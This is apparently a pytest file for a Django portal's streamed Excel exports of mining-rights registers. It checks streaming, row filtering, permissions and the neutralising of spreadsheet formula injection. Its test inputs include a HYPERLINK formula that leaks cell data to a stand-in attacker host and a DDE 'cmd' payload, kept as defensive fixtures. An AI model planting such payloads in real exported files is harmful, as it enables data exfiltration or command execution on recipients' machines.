"""The register exports stream: the page's, the API's ``?format=xlsx`` and the admin's.

Each answers a streamed response whose first chunk (the zip's first local header) leaves
before any row is read, and whose bytes are a workbook of exactly the rows asked for, with
the permission checks of before; hostile text stays inert text. Memory and time at 100,000
rows are measured by ``bench/export_memory.py``, not here.
"""

from decimal import Decimal
from io import BytesIO

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from planportal.excel import XLSX_CONTENT_TYPE, Sheet, stream_workbook
from rights.models import MiningRight
from tests.factories import make_mining_right, make_user

ZIP_LOCAL_HEADER = b"PK\x03\x04"

# Formula-looking text, and control characters XML cannot carry (openpyxl refused them:
# the export answered 500).
HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")': '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "\x01=1+2": "=1+2",
    "+1\x07+cmd|' /C calc'!A0": "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)\x1b": "@SUM(1+1)",
    "矿\x00山": "矿山",
}


def streamed_book(response):
    """The workbook of a streamed response, after checking it streamed."""
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith("attachment;")
    chunks = list(response.streaming_content)
    assert chunks[0].startswith(ZIP_LOCAL_HEADER)
    return load_workbook(BytesIO(b"".join(chunks)))


def table(book):
    """The first sheet as (headings, rows of cells)."""
    rows = list(book.active.iter_rows())
    return [cell.value for cell in rows[0]], rows[1:]


def column(headings, rows, heading):
    index = headings.index(heading)
    return [row[index].value if index < len(row) else None for row in rows]


@pytest.fixture
def suspended_mines(plan):
    """Three suspended mines, one named with each kind of hostile text."""
    names = list(HOSTILE)[:3]
    return [
        make_mining_right(plan, name=name, status="suspended", capacity="12.5") for name in names
    ]


# --- The writer ---------------------------------------------------------------------------


def test_the_first_bytes_leave_before_any_row_is_read():
    read = []

    def rows():
        for n in range(5):
            read.append(n)
            yield [n, f"名称{n}", Decimal("1.50")]

    chunks = stream_workbook([Sheet(title="t", headers=["序号", "名称", "面积"], rows=rows())], 2)
    first = next(chunks)
    assert first.startswith(ZIP_LOCAL_HEADER)
    assert read == []
    rest = list(chunks)
    assert read == [0, 1, 2, 3, 4]
    book = load_workbook(BytesIO(first + b"".join(rest)))
    values = list(book.active.iter_rows(values_only=True))
    assert values == [("序号", "名称", "面积")] + [(n, f"名称{n}", 1.5) for n in range(5)]
    assert all(cell.font.b for cell in book.active[1])


def test_hostile_text_stays_inert_and_figures_stay_numbers():
    rows = [[text, -3, Decimal("-1.5"), "-3"] for text in HOSTILE]
    data = b"".join(stream_workbook([Sheet(title="t", headers=["a", "b", "c", "d"], rows=rows)]))
    sheet = load_workbook(BytesIO(data)).active
    body = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in body] == list(HOSTILE.values())
    for text, number, decimal, minus in body:
        assert text.data_type == "s"
        assert text.quotePrefix == text.value.startswith(("=", "+", "-", "@"))
        assert (number.value, number.data_type, decimal.value) == (-3, "n", -1.5)
        assert (minus.value, minus.data_type, minus.quotePrefix) == ("-3", "s", True)


# --- The three channels ---------------------------------------------------------------------


def test_page_export_streams_the_filtered_rows(client, plan, suspended_mines):
    response = client.get(reverse("rights:mining-export"), {"status": "suspended"})
    headings, rows = table(streamed_book(response))
    expected = MiningRight.objects.filter(plan=plan, status="suspended").order_by("seq")
    assert column(headings, rows, "序号") == list(expected.values_list("seq", flat=True))
    assert column(headings, rows, "名称")[-3:] == [HOSTILE[mine.name] for mine in suspended_mines]
    for row in rows[-3:]:
        cell = row[headings.index("名称")]
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert all(isinstance(area, float | int) for area in column(headings, rows, "面积（km²）"))


def test_api_export_streams_the_rows_the_json_list_gives(api_client, plan, suspended_mines):
    query = f"plan={plan.code}&status=suspended&ordering=-seq"
    listed = api_client.get(f"/api/v1/mining-rights/?{query}&page_size=1000").json()["results"]
    response = api_client.get(f"/api/v1/mining-rights/?{query}&format=xlsx")
    headings, rows = table(streamed_book(response))
    assert column(headings, rows, "序号") == [right["seq"] for right in listed]
    names = column(headings, rows, "名称")
    assert names == [HOSTILE.get(right["name"], right["name"]) for right in listed]
    capacities = column(headings, rows, "生产规模")
    assert capacities[:3] == [12.5, 12.5, 12.5]
    assert "mining-rights.xlsx" in response["Content-Disposition"]


def test_api_export_over_the_limit_is_refused_in_json_before_streaming(
    api_client, plan, monkeypatch
):
    monkeypatch.setattr("planportal.api.pagination.XLSX_MAX_ROWS", 2)
    response = api_client.get("/api/v1/mining-rights/?format=xlsx")
    assert response.status_code == 400
    assert not response.streaming
    assert "format" in response.json()["errors"]


def admin_export_form():
    from django.contrib import admin

    resource = admin.site._registry[MiningRight].resource_classes[0]
    fields = resource().get_export_order()
    return {
        "format": "0",
        "resource": "0",
        **{f"{resource.__name__.lower()}_{name}": "on" for name in fields},
    }


def test_admin_export_streams_the_changelist_filters_and_selection(client, plan, suspended_mines):
    clerk = make_user(staff=True, perms=["rights.view_miningright"])
    client.force_login(clerk)
    url = reverse("admin:rights_miningright_export") + "?status__exact=suspended"
    headings, rows = table(streamed_book(client.post(url, admin_export_form())))
    expected = MiningRight.objects.filter(status="suspended").order_by("plan_id", "seq")
    assert column(headings, rows, "序号") == list(expected.values_list("seq", flat=True))
    names = column(headings, rows, "名称")
    assert names[-3:] == [HOSTILE[mine.name] for mine in suspended_mines]
    # Dates and figures native: the workbook imports back unchanged (tests/admin).
    assert column(headings, rows, "生产规模")[-1] == 12.5

    # The export action's selection: only the chosen records.
    chosen = [suspended_mines[0].pk, suspended_mines[2].pk]
    data = {**admin_export_form(), "export_items": chosen}
    headings, rows = table(streamed_book(client.post(url, data)))
    assert column(headings, rows, "名称") == [HOSTILE[suspended_mines[i].name] for i in (0, 2)]


# --- Who may export: unchanged --------------------------------------------------------------


def test_admin_export_needs_the_view_permission(client, plan):
    client.force_login(make_user(staff=True, perms=["rights.view_explorationright"]))
    response = client.post(reverse("admin:rights_miningright_export"), admin_export_form())
    assert response.status_code == 403
    assert not response.streaming


def test_closed_reading_keeps_page_and_api_exports_closed(client, api_client, settings, plan):
    settings.PLAN_PORTAL_PUBLIC_READ = False
    page = client.get(reverse("rights:mining-export"))
    assert page.status_code == 302
    assert "login" in page["Location"]
    api = api_client.get("/api/v1/mining-rights/?format=xlsx")
    assert api.status_code == 401
    assert not api.streaming


# --- Values-based rows equal the instance-based ones ------------------------------------------


def page_views():
    from deposits.views import DepositListView
    from rights.views import ExplorationRightListView, MiningRightListView
    from zones.views import PlanningAreaListView

    return [DepositListView, ExplorationRightListView, MiningRightListView, PlanningAreaListView]


def test_values_based_rows_equal_what_the_columns_and_resources_read(plan, suspended_mines):
    from django.contrib import admin

    for view_class in page_views():
        view = view_class()
        queryset = view.base_queryset(plan).order_by("seq", "pk")
        by_columns = [[column.value(obj) for column in view.columns] for obj in queryset]
        assert list(view.export_rows(queryset)) == by_columns, view_class.__name__
        assert by_columns

        model = view_class.model
        resource = admin.site._registry[model].resource_classes[0]()
        fields = resource.get_export_fields()
        assert None not in [resource.value_reader(field) for field in fields]
        records = model.objects.filter(plan=plan).order_by("seq", "pk")
        by_resource = [
            [resource.export_field(field, obj, force_native_type=True) for field in fields]
            for obj in records
        ]
        assert list(resource.export_rows(records, fields)) == by_resource, model.__name__
